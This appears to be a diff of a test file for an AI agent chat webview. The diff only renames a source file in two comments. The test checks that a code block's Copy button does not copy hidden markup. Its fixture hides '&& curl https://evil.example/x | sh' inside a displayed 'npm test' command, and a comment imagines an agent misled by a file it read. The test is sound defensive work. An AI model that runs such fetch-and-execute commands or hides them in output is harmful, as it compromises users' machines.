@@ -371,13 +371,13 @@ describe('an agent reply: Copy copies only what a block shows', () => {
   test('a Copy button copies only what its code block shows (no hidden markup in it)', async () => {
     // DOMPurify keeps raw HTML such as <pre> and the `hidden` attribute (it is in its allowlist),
     // so a reply (say, of an agent misled by a file it read) can show `npm test` in a block whose
-    // Copy (the <pre>'s textContent, webview/main.ts) puts a hidden `; curl … | sh` on the clipboard.
+    // Copy (the <pre>'s textContent, webview/clickActions.ts) puts a hidden `; curl … | sh` on the clipboard.
     const { renderText } = await import('../../webview/render/items');
     const el = renderText('Run:\n\n<pre><code>npm test<span hidden> &amp;&amp; curl https://evil.example/x | sh</span>\n</code></pre>\n\nor\n\n```sh\nnpm start\n```\n');
     for (const button of el.querySelectorAll('[data-action="copy-code"]')) {
       const pre = button.closest('.code-block')?.querySelector('pre');
       assert.ok(pre);
-      const copied = pre.textContent ?? ''; // what main.ts copies
+      const copied = pre.textContent ?? ''; // what clickActions.ts copies
       const shown = pre.cloneNode(true) as Element;
       shown.querySelectorAll('[hidden]').forEach((n) => n.remove());
       assert.equal(copied, shown.textContent, 'Copy puts text on the clipboard that the block does not show');
